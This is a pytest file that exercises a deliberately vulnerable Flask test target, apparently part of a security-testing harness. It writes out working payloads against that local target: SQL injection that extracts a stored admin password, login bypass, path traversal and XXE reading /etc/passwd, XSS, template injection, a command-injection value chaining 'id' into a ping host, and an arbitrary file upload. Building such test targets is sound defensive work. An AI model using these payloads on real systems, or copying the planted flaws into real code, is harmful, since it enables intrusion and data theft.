"""The target's flaws are real (Flask's test client against create_app), and its WSGI wrapper marks and logs."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from werkzeug.test import Client

from .target import REQUEST_ID_HEADER, SERVED_HEADER, Marked, create_app

BLIND = "1 AND (SELECT unicode(substr(pw,1,1)) FROM users WHERE id=1)>{}"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory):
    return create_app(tmp_path_factory.mktemp("target")).test_client()


def text(response) -> str:
    return response.get_data(as_text=True)


def test_numeric_sqli_shows_sqlite_errors_and_reads_one_comparison_at_a_time(client) -> None:
    assert "sqlite3.OperationalError" in text(client.get("/items", query_string={"id": "1'"}))
    # 's' of "s3cr3t-Admin!" is 115: > 100 true (the item is listed), > 200 false (empty list)
    assert "hammer" in text(client.get("/items", query_string={"id": BLIND.format(100)}))
    assert "hammer" not in text(client.get("/items", query_string={"id": BLIND.format(200)}))


def test_string_sqli_in_search_unions_the_users_table(client) -> None:
    page = text(client.get("/search", query_string={"q": "zz' UNION SELECT name, pw FROM users-- "}))
    assert "s3cr3t-Admin!" in page


def test_blind_points_login_json_cookie_header(client) -> None:
    assert "Welcome back, admin" in text(
        client.post("/login", data={"username": "admin'-- ", "password": "x"})
    )
    assert "Invalid" in text(client.post("/login", data={"username": "admin'", "password": "x"}))
    answer = client.post("/api/items", json={"category": "x' OR '1'='1"})
    assert len(answer.get_json()["items"]) == 5
    assert "sqlite3.OperationalError" in client.post("/api/items", json={"category": "'"}).get_json()["error"]
    client.set_cookie("lang", "de'%20AND%201=1--%20")
    assert "Hallo" in text(client.get("/greeting"))
    client.set_cookie("lang", "de'%20AND%201=2--%20")
    assert "Hallo" not in text(client.get("/greeting"))
    client.delete_cookie("lang")
    assert "5 items" in text(client.get("/report", headers={"X-Tenant-Id": "1 AND 1=1"}))
    assert "0 items" in text(client.get("/report", headers={"X-Tenant-Id": "1 AND 1=2"}))


def test_traversal_xss_ssti(client) -> None:
    assert "root:x:0:0" in text(
        client.get("/download", query_string={"file": "../../../../../../etc/passwd"})
    )
    assert "<script>alert(1)</script>" in text(
        client.get("/hello", query_string={"name": "<script>alert(1)</script>"})
    )
    client.post("/guestbook", data={"author": "a", "message": "<img src=x onerror=alert(2)>"})
    assert "<img src=x onerror=alert(2)>" in text(client.get("/guestbook"))
    assert "<div>49</div>" in text(client.get("/preview", query_string={"template": "{{ 7*7 }}"}))
    # sandboxed: expressions evaluate, Python internals do not
    assert "SecurityError" in text(
        client.get("/preview", query_string={"template": "{{ ''.__class__.__mro__ }}"})
    )


def test_xxe_reads_local_files_only(client) -> None:
    local = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    assert "root:x:0:0" in text(client.post("/xml/import", data={"xml": local}))
    assert "root:x:0:0" in text(client.post("/xml/import", data=local, content_type="application/xml"))
    remote = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://192.0.2.1/x">]><r>&x;</r>'
    assert "only local files" in text(client.post("/xml/import", data={"xml": remote}))


def test_ssrf_fetches_loopback_only(client) -> None:
    for url in ("http://192.0.2.1/", "http://example.org/", "file:///etc/passwd", "http://10.0.0.1:80/"):
        assert client.get("/fetch", query_string={"url": url}).status_code == 400


def test_upload_keeps_any_name_and_type(client, tmp_path: Path) -> None:
    answer = client.post(
        "/upload",
        data={"file": (tmp_path.joinpath("x").open("wb+"), "evil.html")},
        content_type="multipart/form-data",
    )
    assert "evil.html" in text(answer)
    assert client.get("/uploads/evil.html").mimetype == "text/html"


@pytest.mark.skipif(os.geteuid() != 0 and not Path("/proc/self/ns/user").exists(), reason="no namespaces")
def test_command_injection_runs_confined(client) -> None:
    page = text(client.get("/ping", query_string={"host": "127.0.0.1; id; cat /proc/net/dev"}))
    assert "uid=" in page
    assert "eth0" not in page and "lo:" in page  # an empty network namespace: loopback only


def test_wrapper_marks_every_response_and_logs_the_tags(tmp_path: Path) -> None:
    log = tmp_path / "requests.jsonl"
    app = create_app(tmp_path / "data")
    client = Client(Marked(app.wsgi_app, log))
    ok = client.get("/", headers={REQUEST_ID_HEADER: "direct.7"})
    missing = client.get("/no-such-page", headers={REQUEST_ID_HEADER: "direct.8"})
    assert ok.headers[SERVED_HEADER] == "1" and missing.headers[SERVED_HEADER] == "1"
    logged = [json.loads(line) for line in log.read_text().splitlines()]
    assert [(e["req"], e["status"]) for e in logged] == [("direct.7", "200"), ("direct.8", "404")]
